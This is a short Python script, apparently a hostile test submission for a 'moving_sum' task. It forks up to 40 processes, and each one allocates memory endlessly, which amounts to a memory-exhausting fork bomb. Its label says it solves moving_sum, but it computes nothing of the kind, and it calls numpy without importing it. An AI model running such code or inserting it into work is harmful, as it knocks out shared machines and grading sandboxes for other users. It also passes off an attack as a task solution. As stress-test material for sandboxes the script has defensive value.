# Tries: many processes that each take what one may have.
# Solves: moving_sum

# %% total
import os
import time

for _ in range(40):
    try:
        if os.fork() == 0:
            held = []
            while True:
                held.append(np.ones(8 << 20, np.uint8))
    except OSError:
        pass
time.sleep(60)
